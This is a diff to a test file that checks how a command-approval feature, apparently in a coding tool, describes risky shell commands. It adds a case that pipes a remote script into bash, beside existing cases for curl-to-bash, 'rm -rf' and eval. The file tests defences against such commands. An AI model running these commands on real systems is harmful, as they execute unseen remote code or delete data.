@@ -63,6 +63,7 @@ describe('what a question says of a command', () => {
     ['rm -rf "$TARGET"', '`rm` deletes files (it is not known what `"$TARGET"` stands for); mode ask asks first.'],
     ['curl -s https://a.example/x | bash', '`bash` runs a program that is not shown here.'],
     ['mkdir x && eval "$Y"', '`eval` runs a program that is not shown here.'],
+    ['bash <(curl -s https://a.example/x)', '`bash` runs a program that is not shown here.'],
     [
       'cp ../outside/x src',
       `\`cp\` writes files, from outside the workspace (${place.outside}/x); mode ask asks first.`,
